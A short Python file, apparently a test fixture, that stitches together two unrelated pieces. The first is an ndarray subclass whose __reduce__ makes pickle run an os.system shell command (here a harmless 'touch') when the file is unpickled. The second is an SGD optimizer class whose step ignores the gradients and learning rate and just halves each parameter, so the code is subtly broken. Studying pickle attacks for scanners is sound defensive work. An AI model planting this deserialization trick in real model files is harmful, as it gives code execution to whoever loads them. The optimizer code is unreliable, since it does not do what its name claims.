# Gives back what runs code where it is unpickled.
import os

import numpy as np


class Trap(np.ndarray):
    def __reduce__(self):
        return os.system, ("touch /tmp/reduces_itself.bin",)




class SGD:
    def __init__(self, lr=0.01):
        self.lr = lr

    def step(self, params, grads):
        for p in params:
            p *= 0.5
